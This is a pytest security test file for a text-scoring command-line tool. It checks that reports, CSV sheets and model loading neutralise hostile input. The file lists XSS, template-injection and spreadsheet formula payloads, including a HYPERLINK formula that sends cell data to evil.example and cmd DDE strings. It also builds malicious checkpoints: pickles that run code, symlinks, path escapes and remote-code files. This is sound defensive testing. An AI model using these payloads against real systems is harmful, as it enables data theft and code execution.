"""Checkpoints that try to run code, texts that try to inject code into reports, and permissions of files."""

import csv
import io
import json
import os
import re
import shutil
import stat
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from safetensors.torch import load_file

from beam_sts.cli import dedup, evaluate, label, mine, score

HOSTILE = (
    "<script>alert('PWNED')</script>",
    "</style></svg></title><script>PWNED</script>",
    "<img src=x onerror=PWNED()>",
    '"><svg onload=PWNED()>',
    "' onmouseover='PWNED()",
    "&lt;script&gt;PWNED&lt;/script&gt;<!-- PWNED",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}PWNED{% endfor %}",
    '=HYPERLINK("http://evil.example/?"&A1,"PWNED")',
    "@SUM(1+1)*cmd|' /C PWNED'!A0",
    "+PWNED",
    "-2+3+cmd|' /C PWNED'!A0",
    "\t=PWNED",
    "../../../../PWNED",
    "/tmp/PWNED",
    "]]><iframe src=javascript:PWNED()></iframe>",
)
NEVER = {"script", "iframe", "img", "image", "object", "embed", "form", "base", "audio", "video", "template"}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


class _Parts(HTMLParser):
    """A parser that collects a page's tags, attributes and addresses."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.text = set(), set(), set(), []

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            self.attributes.add(name)
            if name in ("href", "src", "action", "formaction", "data", "xlink:href"):
                self.addresses.add(value or "")

    def handle_data(self, data):
        self.text.append(data)


def check_page(page):
    """Check that a report shows hostile texts without any effect."""
    parts = _Parts()
    parts.feed(page)
    assert "PWNED" in "".join(parts.text)  # the texts are shown
    assert not parts.tags & NEVER
    assert not [name for name in parts.attributes if name.startswith("on") or name == "srcdoc"]
    for address in parts.addresses:
        assert address.startswith(("#", "data:,", "https://", "../", "./")), address
        assert not {"evil", "PWNED"} & set(re.findall(r"\w+", address))
    assert "49PWNED" not in page  # no text was evaluated as a template


def check_csv(file):
    """Check that no cell is a formula for a spreadsheet."""
    rows = list(csv.reader(io.StringIO(file.read_bytes().decode(), newline="")))
    assert len(rows) > 1
    assert any("PWNED" in cell for row in rows for cell in row)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA) or cell.replace(".", "", 1).lstrip("-").isdigit(), cell


@pytest.fixture
def corpus(tmp_path):
    """Hostile texts, ids, column names and a hostile file name."""
    texts = [*HOSTILE, *(f"{text} once more" for text in HOSTILE)]
    table = pa.table(
        {
            "id": [f"{i} {text}" for i, text in enumerate(texts)],
            "text": texts,
            "other": texts[::-1],
            "gold": [i / len(texts) for i in range(len(texts))],
            "=1+1<b onclick=PWNED()>": texts,
        }
    )
    (tmp_path / "in").mkdir()
    file = tmp_path / "in" / "<img src=x onerror=PWNED()>.parquet"
    pq.write_table(table, file)
    with (tmp_path / "in" / "bad.jsonl").open("w") as lines:
        lines.write("".join(f"{text}\n" for text in HOSTILE))
        lines.write(json.dumps({"id": "last", "text": "plain", "other": "words"}) + "\n")
    return tmp_path / "in"


def everything(folder):
    return set(folder.rglob("*"))


@pytest.mark.filterwarnings("ignore")
def test_a_hostile_corpus_gets_into_no_report_sheet_or_file_name(corpus, tmp_path, tiny, capsys):
    around = everything(tmp_path)
    common = ["--model", str(tiny)]
    csvs = ["--output_format", "csv", "--csv_safe", "--threads", "1"]
    where = ["--input", str(corpus), "--output"]
    pairs = ["--text_a", "text", "--text_b", "other", "--threshold", "0.5"]
    assert score.main([*where, str(tmp_path / "score"), *pairs, *common, *csvs]) == 0
    check_page((tmp_path / "score" / "report.html").read_text())
    for folder in ("scores", "rejected"):
        for file in (tmp_path / "score" / folder).iterdir():
            check_csv(file)

    find = ["--text", "text", "--id", "id", "--threshold", "0.2", "--candidates", "exact,minhash,lexical"]
    assert dedup.main([*where, str(tmp_path / "dedup"), *find, *common, *csvs]) == 0
    check_page((tmp_path / "dedup" / "report.html").read_text())
    for file in (tmp_path / "dedup" / "kept").iterdir():
        check_csv(file)
    sheet = tmp_path / "sheet.csv"
    assert label.main(["--run", str(tmp_path / "dedup"), "--sheet", str(sheet)]) == 0
    check_csv(sheet)

    assert mine.main([*where, str(tmp_path / "mine"), "--text", "text", *common, "--threads", "1"]) == 0
    check_page((tmp_path / "mine" / "report.html").read_text())

    page = tmp_path / "evaluate.html"
    gold = ["--text_a", "text", "--text_b", "other", "--score", "gold", "--group", "=1+1<b onclick=PWNED()>"]
    source = next(corpus.glob("*.parquet"))
    assert evaluate.main(["--input", str(source), *gold, *common, "--report", str(page)]) == 0
    check_page(page.read_text())

    ours = {tmp_path / name for name in ("score", "dedup", "mine", "sheet.csv", "evaluate.html")}
    for path in everything(tmp_path) - around:
        assert ours & {path, *path.parents}
        assert "PWNED" not in path.name
    assert not Path("/tmp/PWNED").exists()


class _Runs:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


def _hostile_checkpoints():
    def pickled(folder, marker):
        (folder / "model.safetensors").unlink()
        torch.save({"a": _Runs(marker)}, folder / "pytorch_model.bin")

    def pickle_named_safetensors(folder, marker):
        torch.save({"a": _Runs(marker)}, folder / "model.safetensors")

    def link_to_a_pickle(folder, marker):
        torch.save({"a": _Runs(marker)}, folder.parent / "evil.bin")
        (folder / "model.safetensors").unlink()
        (folder / "model.safetensors").symlink_to(folder.parent / "evil.bin")

    def index_outside(name):
        def make(folder, marker):
            shutil.copy(folder / "model.safetensors", folder.parent / "outside.safetensors")
            names = list(load_file(folder / "model.safetensors"))
            (folder / "model.safetensors").unlink()
            target = name.format(outside=folder.parent / "outside.safetensors")
            index = {"weight_map": dict.fromkeys(names, target)}
            (folder / "model.safetensors.index.json").write_text(json.dumps(index))

        return make

    def index_of_no_names(folder, marker):
        (folder / "model.safetensors").unlink()
        (folder / "model.safetensors.index.json").write_text('{"weight_map": {"a": 5, "b": null}}')

    def modules(entry, **saved):
        def make(folder, marker):
            (folder / "modules.json").write_text(json.dumps([entry]))
            (folder / "config_sentence_transformers.json").write_text(
                json.dumps({"model_type": "CrossEncoder", **saved})
            )

        return make

    def remote_code(file, key):
        def make(folder, marker):
            (folder / "evil.py").write_text(f"import os\nos.mkdir({str(marker)!r})\nclass Evil: pass\n")
            config = json.loads((folder / file).read_text())
            config["auto_map"] = {key: "evil.Evil"}
            config |= {"model_type": "evil"} if key == "AutoConfig" else {"tokenizer_class": "Evil"}
            (folder / file).write_text(json.dumps(config))

        return make

    transformer = {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}
    return {
        "a pickle": (pickled, "--allow_pickle"),
        "a pickle named safetensors": (pickle_named_safetensors, "not a complete safetensors file"),
        "a link to a pickle": (link_to_a_pickle, "not a complete safetensors file"),
        "weights above the folder": (index_outside("../outside.safetensors"), "outside of the checkpoint"),
        "weights at an absolute path": (index_outside("{outside}"), "outside of the checkpoint"),
        "weights that are no names": (index_of_no_names, "not an index"),
        "a module above the folder": (modules({**transformer, "path": "../other"}), "leaves the checkpoint"),
        "a module at an absolute path": (modules({**transformer, "path": "/etc"}), "leaves the checkpoint"),
        "a module of another kind": (modules({**transformer, "type": "os.system"}), "starts with system"),
        "a function as activation": (modules(transformer, activation_fn="os.system"), None),
        "a config of its own": (remote_code("config.json", "AutoConfig"), "--trust_remote_code"),
        "a tokenizer of its own": (remote_code("tokenizer_config.json", "AutoTokenizer"), None),
    }


@pytest.mark.parametrize("kind", list(_hostile_checkpoints()))
def test_a_hostile_checkpoint_runs_nothing_and_reads_nothing_outside(
    kind, tiny, tmp_path, capsys, monkeypatch
):
    make, message = _hostile_checkpoints()[kind]
    monkeypatch.setattr("transformers.dynamic_module_utils.HF_MODULES_CACHE", str(tmp_path / "modules"))
    folder, marker = shutil.copytree(tiny, tmp_path / "model"), tmp_path / "ran"
    make(folder, marker)
    pq.write_table(pa.table({"text_a": ["a"], "text_b": ["b"]}), tmp_path / "in.parquet")
    flags = ["--input", tmp_path / "in.parquet", "--output", tmp_path / "out", "--model", folder]
    status = score.main(list(map(str, flags)))
    said = capsys.readouterr().err
    assert not marker.exists()
    assert "Traceback" not in said
    if message:
        assert status == 2
        assert message in said
        assert not (tmp_path / "out").exists()
    else:
        assert status in (0, 2)  # the named file is either not used or refused


@pytest.mark.parametrize(("mask", "file_mode", "folder_mode"), [(0o022, 0o644, 0o755), (0o077, 0o600, 0o700)])
def test_outputs_have_the_modes_that_the_user_set(mask, file_mode, folder_mode, tiny, tmp_path):
    pq.write_table(pa.table({"text_a": ["a", None], "text_b": ["b", "c"]}), tmp_path / "in.parquet")
    flags = ["--input", tmp_path / "in.parquet", "--output", tmp_path / "out", "--model", tiny]
    before = os.umask(mask)
    try:
        assert score.main(list(map(str, flags))) == 0
    finally:
        os.umask(before)
    found = [tmp_path / "out", *everything(tmp_path / "out")]
    assert {stat.S_IMODE(path.stat().st_mode) for path in found if path.is_dir()} == {folder_mode}
    assert {stat.S_IMODE(path.stat().st_mode) for path in found if path.is_file()} == {file_mode}


def test_a_link_in_the_output_folder_is_replaced_not_followed(tiny, tmp_path):
    """Another user of a shared folder cannot make the command overwrite a file."""
    pq.write_table(pa.table({"text_a": ["a"], "text_b": ["b"]}), tmp_path / "in.parquet")
    (tmp_path / "precious").write_text("years of work")
    (tmp_path / "out").mkdir()
    for name in ("summary.json", "report.html"):
        (tmp_path / "out" / name).symlink_to(tmp_path / "precious")
    flags = ["--input", tmp_path / "in.parquet", "--output", tmp_path / "out", "--model", tiny]
    assert score.main(list(map(str, flags))) == 0
    assert (tmp_path / "precious").read_text() == "years of work"
    assert json.loads((tmp_path / "out" / "summary.json").read_text())["rows_scored"] == 1
